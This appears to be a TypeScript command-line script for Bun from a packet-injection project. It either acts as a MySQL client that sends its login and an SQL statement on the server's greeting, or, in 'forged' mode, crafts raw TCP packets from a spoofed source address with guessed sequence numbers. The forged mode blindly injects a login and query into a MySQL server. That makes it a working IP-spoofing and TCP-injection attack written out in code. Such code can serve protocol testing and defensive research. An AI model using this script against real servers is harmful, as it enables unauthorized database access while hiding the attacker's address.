/**
 * A client of MySQL that sends its login and a statement at once, whatever the server says to it; run as
 * `bun eager-login.ts HOST PORT USER PASSWORD_BYTES SQL`, or with `forged ADDRESS` at the end: then it is not a client at all, but
 * packets from that address with guessed numbers: SYN, ACK, login, statement. Prints what the server says.
 */
import { createIpInjector } from "../../src/inject/ip.ts";
import { PacketBatch } from "../../src/wire/batch.ts";
import { ACK, PSH, SYN } from "../../src/wire/tcp.ts";
import { buildPacket } from "../inject/packets.ts";
import { query } from "../protocol/open.ts";
import { login } from "../protocol/server.ts";

const [host, port, user, bytes, sql, how, address] = process.argv.slice(2) as string[];
const said = Uint8Array.of(...login(user!, { response: Number(bytes) }), ...query(sql!));

function forge(source: string): void {
  const none = new Uint8Array(0);
  const hop = { interface: "", ifindex: 0, nextHop: none, nextHopMac: none, sourceMac: none };
  const batch = new PacketBatch();
  const injector = createIpInjector({ ...hop, kind: "raw", family: 4, mtu: 1500 }, batch, 0);
  const common = { source, destination: host!, sourcePort: 40_000, destinationPort: Number(port) };
  const segments = [
    { seq: 1000, flags: SYN },
    { seq: 1001, ack: 5000, flags: ACK },
    { seq: 1001, ack: 5100, flags: ACK | PSH, payload: said },
  ];
  for (const segment of segments) {
    const packet = buildPacket({ ...common, ...segment });
    batch.clear();
    batch.bytes.set(packet, batch.next);
    batch.push(packet.length, 0);
    injector.send(batch);
  }
  console.log(`sent ${injector.packets}`);
}

if (how === "forged") forge(address!);
else {
  await Bun.connect({
    hostname: host!,
    port: Number(port),
    socket: {
      data(socket, data) {
        // The greeting has the number 0.
        if (data[3] === 0) socket.write(said);
        console.log(data.toString("latin1").replace(/[^ -~]/g, "."));
      },
      close() {},
      error() {},
    },
  });
}
